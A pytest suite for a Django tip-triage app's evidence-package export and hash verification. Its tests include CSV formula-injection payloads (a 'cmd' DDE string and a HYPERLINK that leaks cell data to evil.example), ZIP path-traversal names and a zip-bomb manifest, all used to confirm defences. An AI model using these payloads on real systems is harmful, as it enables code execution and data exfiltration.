"""Staff export a rumor group's evidence package for referral, and anyone can check its hashes."""

import csv
import hashlib
import io
import json
import zipfile

import pytest
from django.contrib.admin.models import LogEntry
from django.contrib.auth.models import Group, Permission
from django.core.files.base import ContentFile
from django.core.management import CommandError, call_command
from django.urls import reverse

from core.storage import private_storage
from tips.intake.receive import tip_submit
from tips.models import EvidenceExport, ReportStatus

from .factories import ClarificationFactory, SightingFactory, TipFactory, UserFactory
from .tips_images import image_bytes, upload

pytestmark = pytest.mark.django_db


def staff_with(*codenames, username="referrer"):
    user = UserFactory(username=username)
    user.groups.add(Group.objects.get(name="Tip triage"))
    user.user_permissions.add(*Permission.objects.filter(codename__in=codenames))
    return user


@pytest.fixture
def case(db):
    """A rumor group with a tip carrying a screenshot, one with contact details, answered by a clarification."""
    clarification = ClarificationFactory(title="停水三天系谣言")
    first = tip_submit(text="紧急通知！明天起全市停水三天", platform="wechat_group", screenshot=upload())
    rumor = first.rumor
    rumor.label = "全市停水三天"
    rumor.save()
    second = TipFactory(
        rumor=rumor,
        text="群里都在传停水三天",
        platform="weibo",
        link="https://weibo.example.com/p/1",
        seen_on="2026-11-30",
        with_contact=True,
        status=ReportStatus.ANSWERED,
        clarification=clarification,
    )
    return {"rumor": rumor, "first": first, "second": second, "clarification": clarification}


def export(client, rumor, **data):
    """Export as staff do: the form's POST, its confirmation page, then the download button's response."""
    response = client.post(reverse("admin:tips_rumor_evidence", args=[rumor.pk]), data)
    if response.status_code != 302:
        return response
    assert client.get(response["Location"]).status_code == 200
    return client.get(response["Location"] + "download/")


def saved(response, tmp_path, name="package.zip"):
    path = tmp_path / name
    path.write_bytes(b"".join(response.streaming_content))
    return path


def reports_csv(path):
    with zipfile.ZipFile(path) as package:
        text = package.read("reports.csv").decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text)))


def rewrite(path, replace):
    """A copy of the package with some members' bytes replaced (as someone altering it would)."""
    altered = path.with_name("altered.zip")
    with zipfile.ZipFile(path) as source, zipfile.ZipFile(altered, "w") as target:
        for item in source.infolist():
            content = source.read(item.filename)
            target.writestr(item.filename, replace.get(item.filename, lambda data: data)(content))
    return altered


def test_a_package_round_trips_through_the_verify_command(client, case, tmp_path, capsys):
    user = staff_with("export_evidence")
    client.force_login(user)
    response = export(client, case["rumor"], reference="沪公网安〔2026〕123号")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/zip"
    assert "attachment" in response["Content-Disposition"]
    path = saved(response, tmp_path)

    with zipfile.ZipFile(path) as package:
        names = set(package.namelist())
        manifest = json.loads(package.read("manifest.json"))
        custody = json.loads(package.read("custody.json"))
        screenshot_name = f"screenshots/{case['first'].code}.png"
        screenshot = package.read(screenshot_name)
        clarification = json.loads(package.read(f"clarifications/{case['clarification'].pk}.json"))
    assert {"reports.csv", "custody.json", "manifest.json", screenshot_name} <= names
    with case["first"].screenshot.open("rb") as stored:
        assert screenshot == stored.read()
    listed = {entry["path"]: entry["sha256"] for entry in manifest["files"]}
    assert listed[screenshot_name] == hashlib.sha256(screenshot).hexdigest()
    assert custody["exported_by"] == "referrer"
    assert custody["case_reference"] == "沪公网安〔2026〕123号"
    assert [item["reference"] for item in custody["reports"]] == [case["first"].code, case["second"].code]
    assert clarification["title"] == "停水三天系谣言"
    assert clarification["address"] == f"http://testserver{case['clarification'].get_absolute_url()}"

    rows = reports_csv(path)
    assert [row["reference"] for row in rows] == [case["first"].code, case["second"].code]
    assert rows[0]["text"] == "紧急通知！明天起全市停水三天"
    assert rows[0]["screenshot_sha256"] == listed[screenshot_name]
    assert rows[1]["platform"] == "weibo"
    assert rows[1]["link"] == "https://weibo.example.com/p/1"
    assert rows[1]["seen_on"] == "2026-11-30"
    assert rows[1]["channel"] == "tip"

    record = EvidenceExport.objects.get()
    assert str(record.package_id) == manifest["package_id"]
    assert record.exported_by == user
    assert record.manifest_sha256 == hashlib.sha256(zipfile.ZipFile(path).read("manifest.json")).hexdigest()
    history = LogEntry.objects.get(object_id=str(case["rumor"].pk), content_type__model="rumor")
    assert str(record.package_id) in history.change_message
    assert history.user == user

    call_command("verify_evidence_package", str(path))
    output = capsys.readouterr().out
    assert "OK" in output
    assert f"{len(manifest['files'])} file(s) match" in output
    assert "matches the office's record of its export by referrer" in output


def test_the_export_shows_on_the_rumor_groups_history_page(client, case, tmp_path):
    client.force_login(staff_with("export_evidence"))
    export(client, case["rumor"])
    page = client.get(reverse("admin:tips_rumor_history", args=[case["rumor"].pk]))
    record = EvidenceExport.objects.get()
    assert str(record.package_id) in page.content.decode()
    assert record.manifest_sha256 in page.content.decode()


def test_a_tampered_screenshot_is_detected(client, case, tmp_path):
    client.force_login(staff_with("export_evidence"))
    path = saved(export(client, case["rumor"]), tmp_path)
    name = f"screenshots/{case['first'].code}.png"
    altered = rewrite(path, {name: lambda _data: image_bytes(size=(61, 40))})
    with pytest.raises(CommandError) as failure:
        call_command("verify_evidence_package", str(altered))
    assert "FAILED" in str(failure.value)
    assert f"{name}: SHA-256 is" in str(failure.value)
    assert "altered or damaged" in str(failure.value)


def test_a_file_and_its_manifest_altered_together_are_caught_by_the_export_record(client, case, tmp_path):
    client.force_login(staff_with("export_evidence"))
    path = saved(export(client, case["rumor"]), tmp_path)
    forged_csv = zipfile.ZipFile(path).read("reports.csv").replace("停水三天".encode(), "停电三天".encode())

    def forge_manifest(data):
        manifest = json.loads(data)
        for entry in manifest["files"]:
            if entry["path"] == "reports.csv":
                entry["sha256"] = hashlib.sha256(forged_csv).hexdigest()
        return json.dumps(manifest).encode()

    altered = rewrite(path, {"reports.csv": lambda _data: forged_csv, "manifest.json": forge_manifest})
    with pytest.raises(CommandError) as failure:
        call_command("verify_evidence_package", str(altered))
    assert "manifest.json: SHA-256 is" in str(failure.value)
    assert "the manifest was altered" in str(failure.value)


def test_an_added_or_removed_file_is_detected(client, case, tmp_path):
    client.force_login(staff_with("export_evidence"))
    path = saved(export(client, case["rumor"]), tmp_path)
    with zipfile.ZipFile(path, "a") as package:
        package.writestr("screenshots/extra.png", image_bytes())
    with pytest.raises(CommandError) as failure:
        call_command("verify_evidence_package", str(path))
    assert "screenshots/extra.png: in the package but not in the manifest" in str(failure.value)


def test_a_file_that_is_not_a_package_gets_a_clear_message(tmp_path):
    path = tmp_path / "not.zip"
    path.write_text("hello")
    with pytest.raises(CommandError) as failure:
        call_command("verify_evidence_package", str(path))
    assert "cannot read the package as a ZIP file" in str(failure.value)


def test_staff_without_the_permission_get_403_and_no_action(client, case):
    client.force_login(staff_with("view_tip_contact", username="triager"))
    url = reverse("admin:tips_rumor_evidence", args=[case["rumor"].pk])
    assert client.get(url).status_code == 403
    assert client.post(url, {"include_contact": "on"}).status_code == 403
    changelist = client.get(reverse("admin:tips_rumor_changelist"))
    assert "export_evidence" not in changelist.content.decode()
    assert not EvidenceExport.objects.exists()


def test_the_action_leads_to_the_confirmation_page(client, case):
    client.force_login(staff_with("export_evidence"))
    response = client.post(
        reverse("admin:tips_rumor_changelist"),
        {"action": "export_evidence", "_selected_action": [case["rumor"].pk]},
        follow=True,
    )
    assert response.status_code == 200
    assert response.redirect_chain[-1][0] == reverse("admin:tips_rumor_evidence", args=[case["rumor"].pk])
    assert 'name="reference"' in response.content.decode()
    assert not EvidenceExport.objects.exists()  # nothing is exported before the confirmation


def test_contact_details_are_absent_by_default(client, case, tmp_path):
    client.force_login(staff_with("export_evidence", "view_tip_contact"))
    page = client.get(reverse("admin:tips_rumor_evidence", args=[case["rumor"].pk])).content.decode()
    assert 'name="include_contact"' in page
    assert "checked" not in page.split('name="include_contact"')[1].split(">")[0]

    path = saved(export(client, case["rumor"]), tmp_path)
    assert "contact_email" not in reports_csv(path)[0]
    with zipfile.ZipFile(path) as package:
        assert all(b"citizen@example.com" not in package.read(name) for name in package.namelist())
    assert EvidenceExport.objects.get().contact_included is False


def test_contact_details_come_only_when_chosen_by_someone_allowed_to_see_them(client, case, tmp_path):
    client.force_login(staff_with("export_evidence", "view_tip_contact"))
    path = saved(export(client, case["rumor"], include_contact="on"), tmp_path)
    rows = reports_csv(path)
    assert rows[1]["contact_email"] == "citizen@example.com"
    assert rows[0]["contact_email"] == ""
    assert EvidenceExport.objects.get().contact_included is True


def test_asking_for_contact_details_without_their_permission_leaves_them_out(client, case, tmp_path):
    client.force_login(staff_with("export_evidence"))
    page = client.get(reverse("admin:tips_rumor_evidence", args=[case["rumor"].pk])).content.decode()
    assert 'name="include_contact"' not in page
    path = saved(export(client, case["rumor"], include_contact="on"), tmp_path)
    assert "contact_email" not in reports_csv(path)[0]
    with zipfile.ZipFile(path) as package:
        assert all(b"citizen@example.com" not in package.read(name) for name in package.namelist())


def test_a_screenshot_missing_from_storage_is_said_in_the_csv_and_the_package_still_verifies(
    client, case, tmp_path, capsys
):
    case["first"].screenshot.storage.delete(case["first"].screenshot.name)
    client.force_login(staff_with("export_evidence"))
    path = saved(export(client, case["rumor"]), tmp_path)
    assert reports_csv(path)[0]["screenshot_file"] == "(file missing from storage)"
    call_command("verify_evidence_package", str(path))
    assert "OK" in capsys.readouterr().out


def test_export_records_are_read_only_and_listed_for_those_who_export(client, case):
    user = staff_with("export_evidence")
    client.force_login(user)
    export(client, case["rumor"], reference="CASE-7")
    listing = client.get(reverse("admin:tips_evidenceexport_changelist") + "?q=CASE-7")
    assert listing.status_code == 200
    assert "CASE-7" in listing.content.decode()
    record = EvidenceExport.objects.get()
    delete = reverse("admin:tips_evidenceexport_delete", args=[record.pk])
    assert client.post(delete, {"post": "yes"}).status_code == 403
    assert EvidenceExport.objects.filter(pk=record.pk).exists()


def test_sightings_from_online_inspection_are_in_the_package_with_their_screenshots(client, case, tmp_path):
    screenshot = private_storage().save("sightings/2026/12/patrol.png", ContentFile(image_bytes("PNG"), name="p.png"))
    sighting = SightingFactory(
        rumor=case["rumor"], text="微博热搜：全市停水三天", platform="weibo", screenshot=screenshot
    )
    client.force_login(staff_with("export_evidence"))
    path = saved(export(client, case["rumor"], reference="R-1"), tmp_path)
    rows = {row["reference"]: row for row in reports_csv(path)}
    row = rows[f"S-{sighting.pk}"]
    assert (row["channel"], row["platform"], row["text"]) == ("sighting", "weibo", "微博热搜：全市停水三天")
    with zipfile.ZipFile(path) as package:
        stored = package.read(row["screenshot_file"])
    assert hashlib.sha256(stored).hexdigest() == row["screenshot_sha256"]
    call_command("verify_evidence_package", str(path))


# --- the verifier refuses what a package of ours never is (issue 22) ----------------------------------


def exit_status(path):
    """The command's exit status as a shell sees it."""
    from tips.management.commands.verify_evidence_package import Command

    try:
        Command().run_from_argv(["manage.py", "verify_evidence_package", str(path)])
    except SystemExit as stop:
        return stop.code
    return 0


def members(path):
    with zipfile.ZipFile(path) as package:
        return [(item, package.read(item.filename)) for item in package.infolist()]


def rebuilt(path, entries, name="rebuilt.zip"):
    """A ZIP holding ``entries`` [(name or ZipInfo, bytes)] in that order, as a forger would write it."""
    target = path.with_name(name)
    with zipfile.ZipFile(target, "w", compression=zipfile.ZIP_DEFLATED) as package:
        for item, content in entries:
            package.writestr(item, content)
    return target


@pytest.fixture
def package(client, case, tmp_path):
    client.force_login(staff_with("export_evidence"))
    return saved(export(client, case["rumor"], reference="R-22"), tmp_path)


def test_a_genuine_package_exits_0(package, capsys):
    assert exit_status(package) == 0
    assert "OK" in capsys.readouterr().out


@pytest.mark.filterwarnings("ignore:Duplicate name")
def test_a_tampered_member_before_the_genuine_one_of_the_same_name_is_refused(package, capsys):
    entries = members(package)
    genuine = {item.filename: content for item, content in entries}["reports.csv"]
    forged = genuine.replace("停水三天".encode(), "停电三天".encode())
    path = rebuilt(package, [("reports.csv", forged), *((item.filename, content) for item, content in entries)])
    with pytest.raises(CommandError) as failure:
        call_command("verify_evidence_package", str(path))
    assert "reports.csv: in the ZIP twice" in str(failure.value)
    assert exit_status(path) == 1


@pytest.mark.filterwarnings("ignore:Duplicate name")
def test_a_second_manifest_is_refused(package):
    entries = [(item.filename, content) for item, content in members(package)]
    manifest = dict(entries)["manifest.json"]
    path = rebuilt(package, [*entries, ("manifest.json", manifest)])
    with pytest.raises(CommandError) as failure:
        call_command("verify_evidence_package", str(path))
    assert "manifest.json: in the ZIP twice" in str(failure.value)


def test_names_equal_but_for_case_are_refused(package):
    entries = [(item.filename, content) for item, content in members(package)]
    path = rebuilt(package, [*entries, ("Reports.CSV", b"x")])
    with pytest.raises(CommandError) as failure:
        call_command("verify_evidence_package", str(path))
    assert "ignoring case" in str(failure.value)


@pytest.mark.parametrize("name", ["../outside.txt", "/etc/cron.d/x", "screenshots/../../x", "C:/x", "a\\b", "./x"])
def test_unsafe_names_are_refused(package, name):
    entries = [(item.filename, content) for item, content in members(package)]
    path = rebuilt(package, [*entries, (name, b"x")])
    with pytest.raises(CommandError) as failure:
        call_command("verify_evidence_package", str(path))
    assert "FAILED" in str(failure.value)
    assert repr(name) in str(failure.value)


def test_a_directory_entry_holding_data_is_refused(package):
    entries = [(item.filename, content) for item, content in members(package)]
    path = rebuilt(package, [*entries, (zipfile.ZipInfo("screenshots/"), b"hidden words")])
    with pytest.raises(CommandError) as failure:
        call_command("verify_evidence_package", str(path))
    assert "screenshots/: a directory entry holding data (12 bytes)" in str(failure.value)


def test_an_empty_directory_entry_is_tolerated(package, capsys):
    entries = [(item.filename, content) for item, content in members(package)]
    path = rebuilt(package, [(zipfile.ZipInfo("screenshots/"), b""), *entries])
    assert exit_status(path) == 0


def test_a_member_larger_than_the_manifest_declares_is_refused_unread(package):
    entries = [(item.filename, content) for item, content in members(package)]
    grown = [(name, content + b"x" * 5000 if name == "reports.csv" else content) for name, content in entries]
    path = rebuilt(package, grown)
    with pytest.raises(CommandError) as failure:
        call_command("verify_evidence_package", str(path))
    assert "reports.csv: larger than the" in str(failure.value)


def test_a_manifest_that_inflates_to_64_mb_is_refused_within_a_bounded_read(package):
    import tracemalloc

    bomb = package.with_name("bomb.zip")
    with (
        zipfile.ZipFile(bomb, "w", compression=zipfile.ZIP_DEFLATED) as target,
        target.open("manifest.json", "w") as member,
    ):
        member.write(b'{"format": "piyao-evidence/2", "files": [], "package_id": "')
        zeros = b"0" * (1024 * 1024)
        for _ in range(64):
            member.write(zeros)
        member.write(b'"}')
    assert bomb.stat().st_size < 1024 * 1024
    tracemalloc.start()
    with pytest.raises(CommandError) as failure:
        call_command("verify_evidence_package", str(bomb))
    _current, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert "manifest.json is larger than" in str(failure.value)
    assert peak < 40 * 1024 * 1024  # the bound (16 MB) and a chunk, never the 64 MB


def test_a_package_rebuilt_whole_under_a_new_id_is_unverifiable_not_ok(package):
    """Files, custody and hashes rewritten together under a new random package_id: consistent, unknown here."""
    import uuid

    entries = {item.filename: content for item, content in members(package)}
    entries["reports.csv"] = entries["reports.csv"].replace("停水三天".encode(), "停电三天".encode())
    manifest = json.loads(entries.pop("manifest.json"))
    manifest["package_id"] = str(uuid.uuid4())
    for entry in manifest["files"]:
        entry["sha256"] = hashlib.sha256(entries[entry["path"]]).hexdigest()
        entry["size"] = len(entries[entry["path"]])
    path = rebuilt(package, [*entries.items(), ("manifest.json", json.dumps(manifest).encode())])
    with pytest.raises(CommandError) as failure:
        call_command("verify_evidence_package", str(path))
    assert "UNVERIFIABLE" in str(failure.value)
    assert "no record of exporting it" in str(failure.value)
    assert failure.value.returncode == 3
    assert exit_status(path) == 3


# --- the printable summary and the exact texts ------------------------------------------------------


def test_the_package_has_a_printable_summary_in_the_exporters_language(client, case, tmp_path):
    client.force_login(staff_with("export_evidence"))
    english = "/en" + reverse("admin:tips_rumor_evidence", args=[case["rumor"].pk])
    response = client.post(english, {"reference": "沪公网安〔2026〕123号"})
    assert response.status_code == 302
    path = saved(client.get(response["Location"] + "download/"), tmp_path)
    with zipfile.ZipFile(path) as package:
        summary = package.read("summary.html").decode()
        manifest = json.loads(package.read("manifest.json"))
        custody = json.loads(package.read("custody.json"))
    assert "summary.html" in {entry["path"] for entry in manifest["files"]}
    assert "summary.html" in custody["files"]
    assert '<html lang="en">' in summary
    assert "Evidence package for referral" in summary
    assert "沪公网安〔2026〕123号" in summary
    assert "全市停水三天" in summary
    for reference in (case["first"].code, case["second"].code):
        assert reference in summary
    assert "WeChat group" in summary
    assert "Weibo" in summary
    assert "紧急通知！明天起全市停水三天" in summary  # the text's excerpt
    for entry in manifest["files"]:
        if entry["path"] not in ("summary.html", "custody.json"):
            assert entry["sha256"] in summary, entry["path"]
    assert "reports.json holds every report's text exactly as it was received" in summary
    assert "referrer" in summary  # the custody record: who exported
    # Self-contained: nothing loaded from anywhere, no script.
    for loaded in ("src=", "href=", "url(", "@import", "<script", "<link"):
        assert loaded not in summary, loaded
    assert "@page { size: A4" in summary


def test_the_summary_is_in_chinese_for_a_chinese_exporter(package):
    with zipfile.ZipFile(package) as opened:
        summary = opened.read("summary.html").decode()
    assert '<html lang="zh-hans">' in summary
    from django.utils import translation

    with translation.override("zh-hans"):
        assert translation.gettext("Evidence package for referral") in summary
        assert translation.gettext("Exact texts") in summary


def test_formulas_are_neutralised_in_the_csv_and_exact_in_the_json(client, case, tmp_path):
    TipFactory(rumor=case["rumor"], text="=cmd|' /C calc'!A0", platform="weibo")
    TipFactory(rumor=case["rumor"], text='=HYPERLINK("http://evil.example/?leak="&A1,"看")', link="")
    client.force_login(staff_with("export_evidence"))
    path = saved(export(client, case["rumor"]), tmp_path)
    texts = [row["text"] for row in reports_csv(path)]
    assert "'=cmd|' /C calc'!A0" in texts
    assert '\'=HYPERLINK("http://evil.example/?leak="&A1,"看")' in texts
    assert not [text for text in texts if text.startswith(("=", "+", "-", "@"))]
    with zipfile.ZipFile(path) as package:
        exact = json.loads(package.read("reports.json"))
    assert {"=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?leak="&A1,"看")'} <= {row["text"] for row in exact}
    assert [row["reference"] for row in exact] == [row["reference"] for row in reports_csv(path)]


# --- the confirmation page and the kept download ------------------------------------------------------


def test_the_export_leads_to_a_confirmation_page_with_the_hashes_and_a_download(client, case):
    client.force_login(staff_with("export_evidence"))
    response = client.post(reverse("admin:tips_rumor_evidence", args=[case["rumor"].pk]), {"reference": "CASE-9"})
    record = EvidenceExport.objects.get()
    assert response.status_code == 302
    assert response["Location"] == reverse("admin:tips_rumor_evidence_done", args=[case["rumor"].pk, record.package_id])
    page = client.get(response["Location"])
    text = page.content.decode()
    assert page.status_code == 200
    assert "CASE-9" in text
    assert "referrer" in text
    assert record.manifest_sha256 in text
    for sha256 in record.files.values():
        assert sha256 in text
    assert reverse("admin:tips_rumor_evidence_download", args=[case["rumor"].pk, record.package_id]) in text
    # Reloading the confirmation exports nothing again.
    client.get(response["Location"])
    assert EvidenceExport.objects.count() == 1


def test_the_download_expires_and_the_daily_purge_removes_the_kept_package(client, case, time_machine):
    from datetime import timedelta

    from django.utils import timezone

    user = staff_with("export_evidence")
    client.force_login(user)
    response = client.post(reverse("admin:tips_rumor_evidence", args=[case["rumor"].pk]), {})
    done = "/en" + response["Location"]  # the English admin, so that the messages read as below
    download = done + "download/"
    assert client.get(download).status_code == 200
    assert private_storage().listdir("evidence")[1]
    time_machine.move_to(timezone.now() + timedelta(hours=25))
    client.force_login(user)  # the staff session itself lasts 8 hours
    expired = client.get(download, follow=True)
    assert expired.redirect_chain[-1][0] == done
    assert "The download has expired" in expired.content.decode()
    call_command("purge_tip_personal_data", stdout=io.StringIO())
    assert private_storage().listdir("evidence")[1] == []
    assert EvidenceExport.objects.count() == 1  # the record stays


def test_only_the_exporter_downloads_and_contact_details_need_their_permission(client, case):
    exporter = staff_with("export_evidence", "view_tip_contact")
    client.force_login(exporter)
    response = client.post(reverse("admin:tips_rumor_evidence", args=[case["rumor"].pk]), {"include_contact": "on"})
    download = "/en" + response["Location"] + "download/"
    colleague = staff_with("export_evidence", "view_tip_contact", username="colleague")
    client.force_login(colleague)
    refused = client.get(download, follow=True)
    assert "Only the person who exported a package may download it" in refused.content.decode()
    assert refused["Content-Type"].startswith("text/html")
    exporter.user_permissions.remove(Permission.objects.get(codename="view_tip_contact"))
    client.force_login(exporter)
    refused = client.get(download, follow=True)
    assert "This package holds contact details, which you may not see." in refused.content.decode()
    client.force_login(staff_with("view_tip_contact", username="triager"))
    assert client.get(download).status_code == 403
    assert client.get(response["Location"]).status_code == 403
